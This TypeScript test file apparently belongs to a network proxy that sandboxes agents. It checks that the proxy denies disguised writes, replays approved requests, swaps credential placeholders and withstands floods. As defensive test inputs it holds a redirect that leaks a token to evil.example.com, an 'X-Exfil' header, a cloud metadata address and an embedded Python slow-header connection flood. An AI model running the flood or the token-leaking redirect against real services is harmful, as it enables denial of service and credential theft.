import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect } from 'vitest'
import { parseAddress } from '../../daemon/network/address.ts'
import { BranchQueue } from '../../daemon/network/branch-queue.ts'
import { network, rule } from '../fixtures/network-rules.ts'
import { Rig } from '../root/network-rig.ts'
import { needs, program, root } from '../tier/needs.ts'
import { Capture } from './capture.ts'

const it = needs(root, program('curl'))
const SECRET = 'sk-live-0123456789abcdef'
const PLACEHOLDER = 'PUZZLED-TOKEN-1'

const rigs: Rig[] = []
const captures: Capture[] = []
let secrets = ''
beforeEach(() => {
  secrets = mkdtempSync(join(tmpdir(), 'puzzled-secrets-'))
  writeFileSync(join(secrets, 'token'), `${SECRET}\n`, { mode: 0o600 })
})
afterEach(async () => {
  for (const capture of captures.splice(0)) await capture.close()
  for (const rig of rigs.splice(0)) await rig.close()
  rmSync(secrets, { recursive: true })
})

async function open(...parameters: Parameters<typeof Rig.open>): Promise<Rig> {
  const rig = await Rig.open(...parameters)
  rigs.push(rig)
  return rig
}

/** Frames that leave this host for the other end, and those with one of the texts in clear. */
async function watch(rig: Rig, texts: readonly string[] = []) {
  const capture = await Capture.open({ texts, places: [rig.outside.address] })
  captures.push(capture)
  return {
    left: async (): Promise<number> => (await capture.seen())[rig.outside.address] ?? -1,
    seen: () => capture.seen(),
  }
}

const curl = async (rig: Rig, ...args: string[]): Promise<string> =>
  (await rig.run(['curl', '-sS', '--max-time', '60', '-w', '|%{http_code}', ...args])).out

const credential = () => ({
  placeholder: PLACEHOLDER,
  source: { kind: 'file', path: join(secrets, 'token') } as const,
  hosts: ['api.example.com'],
  header: 'authorization',
  query: 'key',
  why: 'test',
})

describe('S38 a read that is a write', () => {
  const PROFILE = network([
    rule('read', { hosts: ['r.example.com'] }),
    rule('queue', { hosts: ['q.example.com'], class: 'queue' }),
  ])
  it.each([
    [['-H', 'X-HTTP-Method-Override: DELETE'], '/x'],
    [['-H', 'X-Original-URL: /admin'], '/x'],
    [[], '/x?_method=DELETE'],
    [[], '/graphql?query=mutation%20%7Bdrop%7D'],
    [['--data', 'x', '-X', 'GET'], '/x'],
    [['-X', 'PUT', '--data', 'x'], '/bucket/key?X-Amz-Signature=1'],
  ])('curl %j %s is denied, or queued where writes are', async (args, path) => {
    const rig = await open(PROFILE)
    const { left } = await watch(rig)
    expect(await curl(rig, ...args, `https://r.example.com${path}`)).toMatch(/"rule":"read".*\|403$/s)
    expect(await curl(rig, ...args, `https://q.example.com${path}`)).toMatch(/"queued":true.*\|202$/s)
    expect([await left(), rig.outside.requests]).toEqual([0, []])
    expect(await curl(rig, 'https://r.example.com/x')).toMatch(/\|200$/)
    expect(await left()).toBeGreaterThan(0)
  })

  it('a body without a length makes a write of a GET, also over HTTP/2', async () => {
    const rig = await open(PROFILE)
    const { left } = await watch(rig)
    const body = ['-X', 'GET', '-T', '-']
    for (const version of ['--http1.1', '--http2']) {
      const ask = async (host: string, ...more: string[]): Promise<string> => {
        const argv = ['curl', '-sS', '--max-time', '60', '-w', '|%{http_code}', version, ...more]
        return (await rig.run([...argv, `https://${host}/x`], { input: 'data' })).out
      }
      expect(await ask('r.example.com', ...body), version).toMatch(/"rule":"read".*\|403$/s)
      expect(await ask('q.example.com', ...body), version).toMatch(/"queued":true.*\|202$/s)
      expect([await left(), rig.outside.requests]).toEqual([0, []])
    }
    expect(await curl(rig, '--http2', 'https://r.example.com/x')).toMatch(/\|200$/)
    expect(await left()).toBeGreaterThan(0)
  })

  it('an upgrade and a git push are denied where they would have to be queued', async () => {
    const rig = await open(PROFILE)
    const { left } = await watch(rig)
    const upgrade = [
      '--http1.1',
      '-H',
      'Connection: Upgrade',
      '-H',
      'Upgrade: websocket',
      '-H',
      'Sec-WebSocket-Key: eA==',
    ]
    expect(await curl(rig, ...upgrade, 'https://q.example.com/ws')).toMatch(/\|403$/)
    expect(await curl(rig, 'https://q.example.com/r.git/info/refs?service=git-receive-pack')).toMatch(
      /\|403$/,
    )
    expect([await left(), rig.outside.requests]).toEqual([0, []])
    await curl(rig, 'https://q.example.com/r.git/info/refs?service=git-upload-pack')
    expect(await left()).toBeGreaterThan(0)
  })

  it('headers that are on no list stay inside', async () => {
    const rig = await open(PROFILE)
    await curl(
      rig,
      '-H',
      'X-Exfil: data',
      '-H',
      'Cookie: kept=1',
      '-H',
      'X-Forwarded-Host: evil.test',
      'https://r.example.com/x',
    )
    expect(Object.keys(rig.outside.requests[0]?.headers ?? {}).sort()).toEqual([
      'accept',
      'connection',
      'cookie',
      'host',
      'user-agent',
    ])
  })
})

describe('S39 replay', () => {
  const queueRule = rule('queue', { class: 'queue', addresses: ['127.88.0.0/16'] })
  const profile = () => network([queueRule], { credentials: [credential()] })

  async function queued(rig: Rig): Promise<void> {
    const args = [
      '-H',
      `Authorization: Bearer ${PLACEHOLDER}`,
      '-H',
      'content-type: application/json',
      '-d',
      '{"n":1}',
    ]
    for (const path of ['/1', '/2'])
      expect(await curl(rig, ...args, `https://api.example.com${path}`)).toContain('|202')
    await rig.network.close()
  }

  /** As after the commit, in another life of the daemon. */
  async function later(rig: Rig, rules: ReturnType<typeof profile>, address: string): Promise<BranchQueue> {
    const parsed = parseAddress(address)
    const queue = await BranchQueue.open({
      branch: 'testbranch',
      network: rules,
      directory: rig.directory,
      onEvent: (event) => rig.events.push(event),
      lookup: async () => ({ addresses: parsed === undefined ? [] : [parsed], ttlSeconds: 60 }),
      authorities: [rig.outside.authority.certificate],
    })
    await queue.queue.approve(queue.queue.summaries())
    return queue
  }

  it('sends what was approved, with the secret that no file holds', async () => {
    const rig = await open(profile())
    await queued(rig)
    for (const name of filesBelow(rig.directory))
      expect(readFileSync(name).includes(SECRET), name).toBe(false)
    const { left } = await watch(rig)
    const queue = await later(rig, profile(), rig.outside.address)
    expect(await left()).toBe(0)
    expect(await queue.replay()).toMatchObject({
      sent: [expect.anything(), expect.anything()],
      stopped: undefined,
    })
    await queue.close()
    expect(await left()).toBeGreaterThan(0)
    expect(rig.outside.requests.map((one) => [one.method, one.url, one.body])).toEqual([
      ['POST', '/1', '{"n":1}'],
      ['POST', '/2', '{"n":1}'],
    ])
    expect(rig.outside.requests[0]?.headers).toMatchObject({
      authorization: `Bearer ${SECRET}`,
      'idempotency-key': expect.stringMatching(/^puzzled-r/),
    })
    for (const name of filesBelow(rig.directory))
      expect(readFileSync(name).includes(SECRET), name).toBe(false)
    expect(rig.events.filter((event) => event.kind === 'request').map((event) => event.state)).toEqual([
      'queued',
      'queued',
      'sending',
      'sent',
      'sending',
      'sent',
    ])
  })

  it.each([
    [
      'the rules no longer allow it',
      () => network([rule('read')], { credentials: [credential()] }),
      undefined,
      /Rule "read" allows reads only/,
    ],
    ['the name leads to a metadata service', profile, '169.254.169.254', /169\.254\.169\.254 is in a /],
    ['the name leads to this host', profile, '127.0.0.1', /127\.0\.0\.1 is /],
  ])('stops when %s', async (_name, rules, address, because) => {
    const rig = await open(profile())
    await queued(rig)
    const { left } = await watch(rig)
    const queue = await later(rig, rules(), address ?? rig.outside.address)
    const report = await queue.replay()
    // By name: another defence behind the one that is tried would stop it as well.
    const reason = expect.stringMatching(because)
    expect(report).toMatchObject({ sent: [], stopped: { state: 'failed', reason }, waiting: 1 })
    await queue.close()
    expect([await left(), rig.outside.requests]).toEqual([0, []])
  })
})

describe('S40 credentials', () => {
  const profile = () =>
    network([rule('live', { hosts: ['*.example.com'], ports: [80, 443], class: 'live' })], {
      credentials: [credential()],
    })
  const bearer = ['-H', `Authorization: Bearer ${PLACEHOLDER}`]

  it('reach their host and come back as placeholders, from bodies, headers and trailers of chunks', async () => {
    const rig = await open(profile())
    const arrived: (string | undefined)[] = []
    rig.outside.handler = (request, response) => {
      arrived.push(request.headers.authorization, request.url)
      response.setHeader('x-echo', request.headers.authorization ?? '')
      const text = `you sent ${request.headers.authorization} and ${Buffer.from(SECRET).toString('base64')} and ${encodeURIComponent(SECRET)}`
      for (const part of text.match(/.{1,7}/gs) ?? []) response.write(part)
      response.end()
    }
    const { seen } = await watch(rig, [SECRET])
    const out = await curl(rig, '-i', ...bearer, `https://api.example.com/echo?key=${PLACEHOLDER}`)
    const frames = await seen()
    expect([frames[SECRET], (frames[rig.outside.address] ?? 0) > 0]).toEqual([0, true])
    expect(arrived).toEqual([`Bearer ${SECRET}`, `/echo?key=${SECRET}`])
    expect(out).toContain(`you sent Bearer ${PLACEHOLDER}`)
    for (const form of [SECRET, Buffer.from(SECRET).toString('base64').replace(/=+$/, '')])
      expect(out).not.toContain(form)
    expect(JSON.stringify(rig.network.environment)).not.toContain(SECRET)
  })

  it('come back over a WebSocket in no header, and a frame with one ends it', async () => {
    const rig = await open(profile())
    const asked: (string | undefined)[] = []
    rig.outside.upgrade = ({ headers }, socket) => {
      asked.push(headers.authorization, headers['sec-websocket-extensions'])
      const head = `HTTP/1.1 101 Switching\r\nupgrade: websocket\r\nconnection: upgrade\r\nx-echo: ${headers.authorization}\r\n`
      socket.on('error', () => undefined)
      socket.write(`${head}\r\nframe 1`)
      setTimeout(() => socket.end(`, frame 2 ${headers.authorization} and more`), 50)
    }
    const words = 'Connection: Upgrade|Upgrade: websocket|Sec-WebSocket-Key: eA==|Sec-WebSocket-Extensions: x'
    const upgrade = ['-i', '--http1.1', ...words.split('|').flatMap((line) => ['-H', line])]
    const out = await curl(rig, ...upgrade, ...bearer, 'https://api.example.com/ws')
    expect(out).toContain(`x-echo: Bearer ${PLACEHOLDER}`)
    expect([out.includes(SECRET), out.includes('and more')]).toEqual([false, false])
    expect(rig.events).toContainEqual(expect.objectContaining({ rule: 'secret-echoed' }))
    // The control: where no credential went out, everything passes as it came.
    const plain = await curl(rig, ...upgrade, '-H', 'Authorization: mine', 'https://api.example.com/ws')
    expect(plain).toContain('frame 1, frame 2 mine and more')
    expect(asked).toEqual([`Bearer ${SECRET}`, undefined, 'mine', 'x'])
  })

  it('do not follow a redirect to another host, and do not go out in clear text', async () => {
    const rig = await open(profile())
    const arrived: string[] = []
    rig.outside.handler = (request, response) => {
      arrived.push(`${request.headers.host} ${request.headers.authorization}`)
      if (request.headers.host === 'api.example.com')
        response.writeHead(302, {
          location: `https://evil.example.com/?t=${request.headers.authorization?.slice(7)}`,
        })
      response.end()
    }
    const { seen } = await watch(rig, [SECRET, PLACEHOLDER])
    const out = await curl(rig, '-i', '-L', '--location-trusted', ...bearer, 'https://api.example.com/')
    await curl(rig, ...bearer, 'http://api.example.com/')
    // What went out in clear text was the placeholder; the secret went nowhere but into TLS.
    const frames = await seen()
    expect(frames[SECRET]).toBe(0)
    expect(frames[PLACEHOLDER]).toBeGreaterThan(0)
    expect(arrived[0]).toBe(`api.example.com Bearer ${SECRET}`)
    expect(arrived.slice(1).join()).not.toContain(SECRET)
    expect(arrived[1]).toBe(`evil.example.com Bearer ${PLACEHOLDER}`)
    expect(out).not.toContain(SECRET)
  })

  it('are not shown by TRACE, and an answer that cannot be searched is refused', async () => {
    const rig = await open(profile())
    rig.outside.handler = (_request, response) => {
      response.writeHead(200, { 'content-encoding': 'gzip' })
      response.end(Buffer.from('1f8b', 'hex'))
    }
    const { left } = await watch(rig)
    expect(await curl(rig, '-X', 'TRACE', ...bearer, 'https://api.example.com/')).toMatch(
      /"rule":"trace".*\|405$/s,
    )
    expect(await left()).toBe(0)
    expect(await curl(rig, ...bearer, 'https://api.example.com/')).toMatch(
      /"rule":"answer-unsearchable".*\|502$/s,
    )
    expect(await left()).toBeGreaterThan(0)
  })
})

describe('S41 too much of everything', () => {
  const PROFILE = network([
    rule('few', { hosts: ['few.example.com'], ports: [80], budget: { requests: 2 } }),
    rule('small', { hosts: ['small.example.com'], ports: [80], class: 'live', budget: { bytes: 5_000 } }),
    rule('write', { ports: [80], methods: ['POST'], class: 'queue' }),
    rule('read', { ports: [80] }),
  ])

  it('is answered with the status that says what', async () => {
    const rig = await open(PROFILE, {
      queueLimits: { maxRequests: 2, maxBytes: 10_000, maxBodyBytes: 5_000 },
    })
    const { left } = await watch(rig)
    const url = 'http://api.example.com/'
    const post = (bytes: number) => ['-X', 'POST', '-H', 'Expect:', '--data-binary', 'x'.repeat(bytes), url]
    expect(await curl(rig, '-H', `X: ${'x'.repeat(70_000)}`, url)).toContain('|431')
    expect(await curl(rig, `${url}${'x'.repeat(20_000)}`)).toContain('|414')
    expect(await curl(rig, ...post(6_000))).toMatch(/body-too-large.*\|413$/s)
    for (const expected of ['|202', '|202']) expect(await curl(rig, ...post(100))).toContain(expected)
    expect(await curl(rig, ...post(100))).toMatch(/queue-full.*\|429$/s)
    expect([await left(), rig.outside.requests]).toEqual([0, []])
    for (const expected of ['|200', '|200', '|429'])
      expect(await curl(rig, 'http://few.example.com/')).toContain(expected)
    expect(await left()).toBeGreaterThan(0)
    expect(
      await curl(rig, '-X', 'POST', '--data-binary', 'x'.repeat(6_000), 'http://small.example.com/'),
    ).toMatch(/\|(429|502)$/)
  })

  it('of one agent leaves the others their answers', async () => {
    const limits = { connections: 40, headersMs: 3_000 }
    const loud = await open(PROFILE, { limits })
    const quiet = await open(PROFILE)
    // Slow headers on more connections than it may have, for as long as the other one asks.
    const flood = `
import socket, time
held = []
for n in range(200):
    try:
        s = socket.create_connection(('127.0.0.1', 3128), 30); s.sendall(b'GET http://api.example.com/ HTTP/1.1\\r\\nX: '); held.append(s)
    except OSError: pass
print('flooded', flush=True)
end = time.time() + 90
alive = list(held)
while time.time() < end and alive:
    for s in list(alive):
        try: s.sendall(b'x')
        except OSError: alive.remove(s)
    time.sleep(0.2)
print('alive', len(alive))
`
    const [held, passed] = [await watch(loud), await watch(quiet)]
    const flooding = loud.run(['python3', '-c', flood])
    for (let n = 0; n < 20; n++) expect(await curl(quiet, 'http://api.example.com/')).toContain('|200')
    expect((await flooding).out).toContain('alive 0')
    expect([await held.left(), (await passed.left()) > 0]).toEqual([0, true])
    expect(await curl(loud, 'http://api.example.com/')).toContain('|200')
    expect(loud.events).toContainEqual(expect.objectContaining({ rule: 'too-many-connections' }))
  })
})

function filesBelow(directory: string): string[] {
  return (readdirSync(directory, { recursive: true }) as string[])
    .map((name) => join(directory, name))
    .filter((path) => statSync(path).isFile())
}
